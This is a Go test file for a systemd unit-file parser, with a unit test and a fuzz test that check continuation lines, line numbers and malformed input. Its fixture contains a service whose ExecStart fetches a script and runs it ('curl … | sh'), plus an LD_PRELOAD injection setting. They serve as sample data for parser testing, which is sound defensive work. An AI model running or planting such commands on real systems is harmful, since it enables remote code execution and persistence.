package unitfile

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestParse(t *testing.T) {
	f := Parse([]byte("# comment\n[Unit]\nDescription=x\n\n[Service]\nType=simple\nExecStart=/bin/sh -c \\\n  'curl -s http://192.0.2.1/a | sh'\nExecStartPre=-/bin/true\nEnvironment=\"LD_PRELOAD=/etc/x.so\"\nstray\n[Install]\nWantedBy=multi-user.target\n"))
	require.Len(t, f.Get("Service", "ExecStart"), 1)
	d := f.Get("Service", "ExecStart")[0]
	assert.Equal(t, "/bin/sh -c  'curl -s http://192.0.2.1/a | sh'", d.Value)
	assert.Equal(t, 7, d.First)
	assert.Equal(t, 8, d.Last)
	assert.Equal(t, "/bin/true", Command(f.Get("Service", "ExecStartPre")[0].Value))
	assert.Equal(t, []int{11}, f.Bad)
	assert.Equal(t, "multi-user.target", f.Get("Install", "WantedBy")[0].Value)
}

func FuzzParse(f *testing.F) {
	f.Add([]byte("[Service]\nExecStart=/tmp/x \\\n# c\n -y\n"))
	f.Add([]byte("[Unit\nA=\\"))
	f.Fuzz(func(t *testing.T, data []byte) {
		p := Parse(data)
		for _, d := range p.Directives {
			if d.First < 1 || d.Last < d.First || d.Key == "" {
				t.Fatalf("bad directive %+v", d)
			}
		}
	})
}
